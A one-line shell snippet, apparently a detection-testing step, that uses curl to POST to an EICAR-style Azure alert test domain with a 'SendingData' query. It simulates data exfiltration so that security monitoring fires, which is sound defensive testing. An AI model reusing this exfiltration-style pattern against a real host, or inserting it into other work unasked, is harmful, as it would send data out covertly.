# step: test domain
# ends with: 0 6 7 22 28 52 56
printf 'url = "http://%s?SendingData"\n' mdc-eicar.alerts.security.azure.com | curl -s -m 10 -X POST -o /dev/null -K -
